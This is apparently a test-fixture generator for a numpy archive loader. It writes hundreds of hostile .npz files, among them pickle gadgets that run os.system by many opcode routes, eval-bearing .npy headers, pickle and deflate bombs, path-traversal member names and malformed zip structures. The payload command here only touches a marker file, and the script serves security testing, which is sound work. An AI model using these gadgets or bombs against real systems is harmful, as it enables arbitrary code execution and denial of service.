"""Make hostile archives: python tests/attacks/make_attacks.py ARCHIVE FOLDER.

ARCHIVE is a whole one that the attacks are made from. What they would run creates the file `ran` in
FOLDER, and nothing else.
"""

from __future__ import annotations

import copyreg
import io
import os
import pickle
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import numpy as np

EXTENSION = 77  # of copyreg; see `register_extension`
BOMB = 1 << 30  # bytes that the bombs expand to
ORIGINAL = ("images", "geometries", "elements", "pair_names", "labels", "metadata")

Members = list[tuple[str, bytes]]


def register_extension() -> None:
    """Give a victim the extension code that the attack by EXT1 needs."""
    copyreg.add_extension("os", "system", EXTENSION)


class Run:
    """An object whose pickle runs a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


# ---- pickles that run a command ----


def gadgets(command: str) -> Iterator[tuple[str, bytes]]:
    """Yield pickles, each of which runs `command` when Python's unpickler reads it."""
    text = b"S'" + command.encode() + b"'\n"
    short = b"\x8c" + bytes([len(command)]) + command.encode()
    system = b"c" + os.system.__module__.encode() + b"\nsystem\n"
    module = os.system.__module__.encode()
    yield "global", system + b"(" + text + b"tR."
    yield (
        "stack-global",
        (
            b"\x80\x04\x8c"
            + bytes([len(module)])
            + module
            + b"\x8c\x06system\x93"
            + short
            + b"\x85R."
        ),
    )
    yield "inst", b"(" + text + b"i" + module + b"\nsystem\n."
    yield "obj", b"(" + system + text + b"o."
    mapped = b"cbuiltins\nmap\n(" + system + b"(" + text + b"lt\x81"
    yield "newobj", b"cbuiltins\nbytes\n(" + mapped + b"t\x81."
    namespace = b"\x80\x02cargparse\nNamespace\n)\x81"
    yield "build", namespace + b"}S'__setstate__'\n" + system + b"sb" + text + b"b."
    yield "ext", b"\x80\x02\x82" + bytes([EXTENSION]) + b"(" + text + b"tR."
    code = f"__import__('os').system({command!r})".encode()
    yield "eval", b"cbuiltins\neval\n(V" + code + b"\ntR."
    for protocol in range(6):
        yield f"array-{protocol}", pickled_objects([{"e_g_ev": Run(command)}], protocol)
    for place, item in {
        "list": [Run(command)],
        "tuple": {"dipole_moment": (Run(command), 0.0, 0.0)},
        "deep": {"a": {"b": {"c": [({"d": Run(command)},)]}}},
        "before the rest": Run(command),
    }.items():
        yield place, pickled_objects([item], 3)
    plain = pickled_objects([{"e_g_ev": 1.0}], 3)
    yield "after the rest", plain[:-1] + b"0" + system + b"(" + text + b"tR."
    end_of_reconstruct = plain.index(b"R")
    yield (
        "as the array's class",
        (plain[:end_of_reconstruct] + b"0" + system + b"(" + text + b"tR0" + plain[2:]),
    )


def pickled_objects(objects: list[Any], protocol: int) -> bytes:
    array = np.empty(len(objects), dtype=object)
    for i, item in enumerate(objects):
        array[i] = item
    return pickle.dumps(array, protocol)


# ---- pickles that take memory or time ----


def doubled(item: Any) -> Any:
    """Return tuples in tuples that hold `item` 2^100 times."""
    for _ in range(100):
        item = (item, item)
    return item


def laughs() -> Any:
    """Return lists in lists that hold a number 2^100 times."""
    item = [1.0]
    for _ in range(100):
        item = [item, item]
    return item


def bombs(n: int) -> Iterator[tuple[str, bytes]]:
    """Yield pickles that expand, recurse or count without end, for an array of `n` dicts."""
    plain = pickled_objects([*({"e_g_ev": 1.0} for _ in range(n - 1)), {}], 3)
    at = plain.rindex(b"}")  # the empty dict
    key = b"X\x0b\x00\x00\x00bond_length"

    def inside(data: bytes) -> bytes:
        return plain[:at] + data + plain[at + 1 :]

    yield "harmless memo bomb", inside(b"}r\xff\xff\xff\x7f")
    yield "billion laughs", pickled_objects([{"bond_length": laughs()}] * n, 3)
    key_of_tuples = pickle.dumps(doubled(()), 3)[2:-1]
    yield "doubling tuple as a key", inside(b"}" + key_of_tuples + b"Ns")
    yield "nested lists", inside(b"}" + key + b"]" * 200_000 + b"a" * 199_999 + b"s")
    yield "nested tuples", inside(b"}" + key + b")" + b"\x85" * 300_000 + b"s")
    yield "dict in itself", inside(b"}q\xf0" + key + b"h\xf0s")
    yield "marks", inside(b"(" * 1_000_000 + b"}")
    yield "bytes of 2^62", inside(b"\x8e" + struct.pack("<Q", 1 << 62) + b"x")
    yield "bytearray of 2^62", inside(b"\x96" + struct.pack("<Q", 1 << 62) + b"x")
    yield "text of 2^31", inside(b"X" + struct.pack("<I", 1 << 31) + b"x")
    yield "long of 2^31 bytes", inside(b"\x8b" + struct.pack("<i", (1 << 31) - 1) + b"x")
    yield "digits", inside(b"}" + key + b"I" + b"9" * 1_000_000 + b"\ns")
    yield "float digits", inside(b"}" + key + b"F" + b"9" * 1_000_000 + b"\ns")
    yield "harmless frame", b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + plain[2:]
    yield "persistent id", inside(b"Pid\n")
    shape = plain.index(b"K" + bytes([n]) + b"\x85")
    yield (
        "shape of 2^62",
        plain[:shape] + b"\x8a\x08" + struct.pack("<q", 1 << 62) + plain[shape + 2 :],
    )
    yield "negative shape", plain[:shape] + b"J\xff\xff\xff\xff" + plain[shape + 2 :]
    yield "wide text", inside(b"}").replace(b"O8", b"U9", 1)
    yield "deep tuple as a name", inside(b")" + b"\x85" * 300_000 + b"\x8c\x01a\x93")
    yield "scalar of a number", inside(b"cnumpy.core.multiarray\nscalar\n(K\x01C\x01\x00tR")
    endless = b"(\x8a\xff" + b"\x7f" * 255 + b"q\xf1" + b"h\xf1" * 49_999 + b"t"
    yield "shape of 50,000 integers of 2040 bits", plain[:shape] + endless + plain[shape + 3 :]
    yield "60 million dicts", inside(b"}" * 60_000_000)
    yield "many texts of one scalar", inside(scalars_of_one_text())
    yield "no array", b"N."
    yield "empty", b""
    yield "no end", plain[:-1]
    yield "noise", bytes(range(256)) * 40


def scalars_of_one_text() -> bytes:
    """Return a list of 100,000 scalars, each made of the same 4 MB of text."""
    scalar = pickle.dumps(np.str_("x" * 999_999), 3)[2:-1]
    at = scalar.index(b"B")  # the bytes, then the number that they get, then a tuple and the call
    size = int.from_bytes(scalar[at + 1 : at + 5], "little")
    text = scalar[at : at + 5 + size]
    call = b"h\xf2h\xf3h\xf4\x86R"
    name, dtype = scalar[: scalar.index(b"q\x00")], scalar[scalar.index(b"cnumpy\ndtype") : at]
    return b"](" + name + b"q\xf2" + dtype + b"q\xf3" + text + b"q\xf4" + call * 100_000 + b"e"


def many_rows() -> Iterator[tuple[str, bytes]]:
    """Yield archives of the original project in which few bytes are an array for many pairs."""

    def archive(n: int, **objects: bytes) -> bytes:
        arrays = {
            "images": np.zeros((n, 10, 1, 1), np.float32),
            "geometries": np.zeros((n, 2, 4), np.float32),
            "elements": np.full((n, 2), "H"),
            "pair_names": np.arange(n).astype("<U8"),
        }
        file, header = io.BytesIO(), io.BytesIO()
        description = {"descr": "|O", "fortran_order": False, "shape": (n,)}
        np.lib.format.write_array_header_1_0(header, description)
        np.savez_compressed(file, **{k: v for k, v in arrays.items() if k not in objects})
        with zipfile.ZipFile(io.BytesIO(file.getvalue())) as plain:
            members = [(name, plain.read(name)) for name in plain.namelist()]
        wrapped = [(f"{name}.npy", header.getvalue() + data) for name, data in objects.items()]
        return zipped([*members, *wrapped])

    row = dict.fromkeys((f"label_{k}" for k in range(20_000)), 1.0)
    yield (
        "one dict of 20,000 keys in 20,000 rows",
        archive(20_000, labels=pickled_objects([row] * 20_000, 3)),
    )
    sparse = [{f"label_{i}": 1.0} for i in range(20_000)]
    yield "a label of its own for 20,000 pairs", archive(20_000, labels=pickled_objects(sparse, 3))
    for text in ("a text", "x"):
        texts = [{"note": text * 5_000_000}, *({"note": "x"} for _ in range(2_999))]
        yield f"a label of {len(text) * 5} MB", archive(3_000, labels=pickled_objects(texts, 3))
    notes = [{f"note_{k}": "x" * (5_000 if i == 0 else 1) for k in range(30)} for i in range(3_000)]
    yield "thirty labels of 5 kB", archive(3_000, labels=pickled_objects(notes, 3))
    yield (
        "a name of 30 MB",
        archive(
            1_000,
            labels=pickled_objects([{"x" * 30_000_000: 1.0, **row}, *({} for _ in range(999))], 3),
        ),
    )
    image = np.zeros((10, 960, 960), np.float32)
    yield "one array in 1,000 rows", archive(1_000, images=pickled_objects([image] * 1_000, 3))
    small = [np.zeros((10, 1, 1), np.float32) for _ in range(1_000)]
    yield (
        "no pixels in 1,000 rows",
        archive(1_000, images=pickled_objects([image[:, :0] for image in small], 3)),
    )
    names = [np.array(["H", "x" * 900_000]), *(np.array(["H", "H"]) for _ in range(999))]
    yield "wide text in 1,000 rows", archive(1_000, elements=pickled_objects(names, 3))
    yield (
        "one name of 30 MB in 1,000",
        archive(1_000, pair_names=pickled_objects(["x" * 30_000_000, *map(str, range(999))], 3)),
    )
    dipoles = [{"dipole_moment": np.zeros(3_000_000)} for _ in range(2)]
    yield "dipole moments of 3 million numbers", archive(2, metadata=pickled_objects(dipoles, 3))


# ---- .npy headers ----


def headers(command: str) -> Iterator[tuple[str, bytes]]:
    """Yield .npy members of few bytes that say what is not so."""

    def npy(header: str, data: bytes = bytes(64), version: bytes = b"\1\0") -> bytes:
        text = header.encode("latin-1") + b"\n"
        length = struct.pack("<H" if version == b"\1\0" else "<I", len(text))
        return b"\x93NUMPY" + version + length + text + data

    def described(descr: str = "'<f8'", shape: str = "(8,)", order: str = "False") -> str:
        return f"{{'descr': {descr}, 'fortran_order': {order}, 'shape': {shape}, }}"

    for shape in (
        *("(4611686018427387904,)", "(1000000000000, 1000000000000)", "(-1,)", "(-1, -8)"),
        *("(True, 8)", "(8.0,)", "('8',)", "8", "(0x8,)", "(9999999999999999999999,)"),
        *("(0, 4611686018427387904, 4611686018427387904)", f"({'1, ' * 300}8)", "(1e9,)"),
    ):
        yield f"shape {shape[:20]}", npy(described(shape=shape))
    for descr in (
        *("'>f8'", "'|O'", "'O'", "'<f16'", "'<c16'", "'<M8[ns]'", "'|V8'", "'<U0'", "'|S0'"),
        *("'<U999999999'", "'|S999999999'", "[('a', '<f8')]", "('<f8', (2,))", "'<f8, <f8'", "''"),
        *("None", "'numpy.float64'", "'<f9'", "{'names': ['a'], 'formats': ['O']}"),
    ):
        yield f"descr {descr}", npy(described(descr))
    yield "fortran", npy(described(shape="(2, 4)", order="True"))
    yield "fortran 1", npy(described(order="1"))
    for code in (
        f"__import__('os').system({command!r})",
        described(descr=f"__import__('os').system({command!r})"),
        described(shape=f"(__import__('os').system({command!r}),)"),
        "(" * 2000,
        "{'descr': " + "-" * 3000 + "1}",
        "9" * 4000,
        "{" + "[" * 500 + "]" * 500 + "}",
        "",
        "{}",
        described() + "; 1",
        described().replace("}", "'extra': 1}"),
    ):
        yield f"header {code[:12]}", npy(code)
    yield "header of 64 kB", npy(described() + " " * 65_000)
    yield "header of 100 MB", npy(described() + " " * 100_000_000, version=b"\2\0")
    yield "header of 4 GB claimed", b"\x93NUMPY\2\0\xff\xff\xff\xff" + bytes(100)
    yield "header longer than the member", b"\x93NUMPY\1\0\xff\xff{"
    yield "version 3", npy(described(), version=b"\3\0")
    yield "version 9", npy(described(), version=b"\x09\0")
    yield "no magic", b"MZ" + bytes(200)
    yield "nothing", b""


# ---- zip files ----


def zipped(members: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return file.getvalue()


def with_member(members: Members, name: str, data: bytes) -> Members:
    return [(n, data if n == name else d) for n, d in members]


def entries(data: bytes) -> list[int]:
    """Return where the entries of the directory begin."""
    at = struct.unpack("<I", data[-6:-2])[0]
    found = []
    while data[at : at + 4] == b"PK\1\2":
        found.append(at)
        at += 46 + sum(struct.unpack("<3H", data[at + 28 : at + 34]))
    return found


def patched(data: bytes, at: int, value: bytes) -> bytes:
    return data[:at] + value + data[at + len(value) :]


def bomb_member(size: int) -> bytes:
    """Return the deflated bytes of a .npy member of float64 zeros, `size` bytes long."""
    header = io.BytesIO()
    shape = (size - 128) // 8
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f8", "fortran_order": False, "shape": (shape,)}
    )
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    packed = packer.compress(header.getvalue())
    packed += b"".join(packer.compress(block) for _ in range(size // len(block)))
    return packed + packer.flush()


def zip_files(members: Members) -> Iterator[tuple[str, bytes]]:
    """Yield zip files whose structure lies."""
    whole = zipped(members)
    first, second = entries(whole)[:2]
    end = len(whole) - 22
    yield "duplicate member", zipped_twice(members)
    yield "unknown member", zipped([*members, ("secret.npy", members[0][1])])
    for name in (
        *("../images.npy", "/images.npy", "a/images.npy", "C:\\images.npy", "images.npy/"),
        *("", ".npy", "images", "images.npy.exe", "ima\u0434ges.npy", "x" * 60_000, "a\nb.npy"),
    ):
        yield f"name {name[:14]!r}", zipped([*members, (name, members[0][1])])
    yield "nested zip", zipped(with_member(members, "images.npy", whole))
    yield "zip in a zip", zipped([("dataset_combined.npz", whole)])
    yield "overlap", patched(whole, second + 42, struct.pack("<I", 0))
    one_kernel = [patched(whole[at : at + 46], 42, struct.pack("<I", 0)) for at in [first]]
    name = members[0][0].encode()
    kernel = one_kernel[0] + name
    start = struct.unpack("<I", whole[-6:-2])[0]
    many = kernel * 1000
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1000, 1000, len(many), start, 0)
    yield "a thousand entries of one member", whole[:start] + many + tail
    for what, offset, layout, value in (
        ("size of 2^32 - 2", 24, "<I", 0xFFFFFFFE),
        ("packed size of 2^31", 20, "<I", 1 << 31),
        ("offset beyond the end", 42, "<I", 0x7FFFFFFF),
        ("offset into the directory", 42, "<I", start),
        ("no packed bytes", 20, "<I", 0),
        ("wrong checksum", 16, "<I", 0x12345678),
        ("encrypted", 8, "<H", 1),
        ("patched data", 8, "<H", 0x20),
        ("strong encryption", 8, "<H", 0x41),
        *((f"method {m}", 10, "<H", m) for m in (1, 9, 12, 14, 93, 95, 98, 99)),
        ("swallows its neighbour", 32, "<H", second - first - 46),
    ):
        yield what, patched(whole, first + offset, struct.pack(layout, value))
    for value in (1 << 40, (1 << 63) - 1, (1 << 64) - 1):
        yield f"zip64 size {value}", zip64(members, value)
    for count in (0, 1, 65_535):
        yield f"count {count}", patched(whole, end + 8, struct.pack("<2H", count, count))
    yield "directory of 2^31 bytes", patched(whole, end + 12, struct.pack("<I", 1 << 31))
    yield "directory elsewhere", patched(whole, end + 16, struct.pack("<I", 5))
    yield (
        "comment that is an archive",
        whole[:-2] + struct.pack("<H", len(whole) & 0xFFFF) + whole[:0xFFFF],
    )
    yield "data before", b"#!/bin/sh\nexit 1\n" + whole
    yield "data behind", whole + b"more"
    yield "two archives", whole + whole
    yield "empty zip", b"PK\5\6" + bytes(18)
    yield "empty file", b""
    yield "half", whole[: len(whole) // 2]


def zipped_twice(members: Members) -> bytes:
    """Write one member a second time, with other data."""
    whole = zipped([*members, ("x" * len(members[0][0]), members[1][1])])
    return whole.replace(b"x" * len(members[0][0]), members[0][0].encode())


def zip64(members: Members, value: int) -> bytes:
    """Let the first entry of the directory say its size in a zip64 field."""
    whole = zipped(members)
    first = entries(whole)[0]
    name_end = first + 46 + len(members[0][0])
    extra = struct.pack("<2HQ", 1, 8, value)
    data = patched(whole, first + 24, b"\xff" * 4)
    data = patched(data, first + 30, struct.pack("<H", len(extra)))
    data = data[:name_end] + extra + data[name_end:]
    size = struct.unpack("<I", data[-10:-6])[0] + len(extra)
    return patched(data, len(data) - 10, struct.pack("<I", size))


def deflate_bombs(members: Members) -> Iterator[tuple[str, bytes]]:
    """Yield archives in which `label_values` or every member expands to a gigabyte."""
    packed = bomb_member(BOMB)
    for what, names in {
        "deflate bomb": {"label_values.npy", "images.npy"},
        "deflate bombs everywhere": {name for name, _ in members},
    }.items():
        plain = zipped([(n, b"" if n in names else d) for n, d in members], zipfile.ZIP_STORED)
        with io.BytesIO(plain) as file, zipfile.ZipFile(file) as archive:
            yield what, with_raw_members(archive, names, packed, BOMB)


def with_raw_members(archive: zipfile.ZipFile, names: set[str], packed: bytes, size: int) -> bytes:
    """Write an archive again, with deflated bytes in the place of some members."""
    body, directory = b"", b""
    for entry in archive.infolist():
        data = packed if entry.filename in names else archive.read(entry)
        length = size if entry.filename in names else len(data)
        method = 8 if entry.filename in names else 0
        crc = 0 if entry.filename in names else entry.CRC
        name = entry.filename.encode()
        fields = (20, 0, method, 0, 33, crc, len(data), length, len(name), 0)
        directory += (
            struct.pack("<4sH5H3I2H", b"PK\1\2", 20, *fields)
            + struct.pack("<3H2I", 0, 0, 0, 0, len(body))
            + name
        )
        body += struct.pack("<4s5H3I2H", b"PK\3\4", *fields) + name + data
    n = len(archive.infolist())
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, n, n, len(directory), len(body), 0)
    return body + directory + tail


# ---- all of them ----


def attacks(whole: Path, folder: Path) -> Iterator[tuple[str, bytes]]:
    """Yield names and bytes of hostile archives made from a whole one.

    Where a name says ``harmless``, only a reader suffers that believes what a pickle says of sizes.
    Where it begins with ``unread``, the fault stands where no loader looks, but every mode of
    ``check_npz.py`` does: in the dicts of an archive of ours.
    """
    with zipfile.ZipFile(whole) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    n = len(np.load(whole)["pair_names"])
    original = [(name, data) for name, data in members if name[:-4] in ORIGINAL]
    command = f"touch {folder / 'ran'}"
    pickles = [*((f"gadget {name}", p) for name, p in gadgets(command)), *bombs(n)]
    object_header = dict(members)["labels.npy"].partition(b"\n")[0] + b"\n"
    for member in ("labels.npy", "metadata.npy"):
        for name, pickled in pickles:
            data = object_header + pickled
            yield f"unread {member} {name}", zipped(with_member(members, member, data))
            yield f"original {member} {name}", zipped(with_member(original, member, data))
    for member in ("images.npy", "geometries.npy", "elements.npy", "pair_names.npy"):
        shape = dict(members)[member].partition(b"'shape': ")[2].partition(b"}")[0].decode()
        header = {"descr": "|O", "fortran_order": False, "shape": eval(shape.rstrip(", "))}  # noqa: S307 - of our own archive
        file = io.BytesIO()
        np.lib.format.write_array_header_1_0(file, header)
        grown = [("billion laughs", pickled_objects([laughs()] * n, 3))]
        for name, pickled in [*gadgets(command), *grown]:
            data = file.getvalue() + pickled
            yield f"object {member} gadget {name}", zipped(with_member(members, member, data))
            yield f"original {member} gadget {name}", zipped(with_member(original, member, data))
    for name, data in headers(command):
        yield f"{name} in label_values", zipped(with_member(members, "label_values.npy", data))
        yield f"{name} in original images", zipped(with_member(original, "images.npy", data))
    yield from many_rows()
    yield from zip_files(members)
    for name, data in deflate_bombs(members):
        yield name, data
    for name, data in deflate_bombs(original):
        yield f"original {name}", data


def main() -> None:
    whole, folder = map(Path, sys.argv[1:])
    folder.mkdir(parents=True, exist_ok=True)
    for k, (name, data) in enumerate(attacks(whole, folder)):
        path = folder / f"{k:03d}.npz"
        path.write_bytes(data)
        print(f"{path}: {name}")  # noqa: T201 - a script


if __name__ == "__main__":
    main()
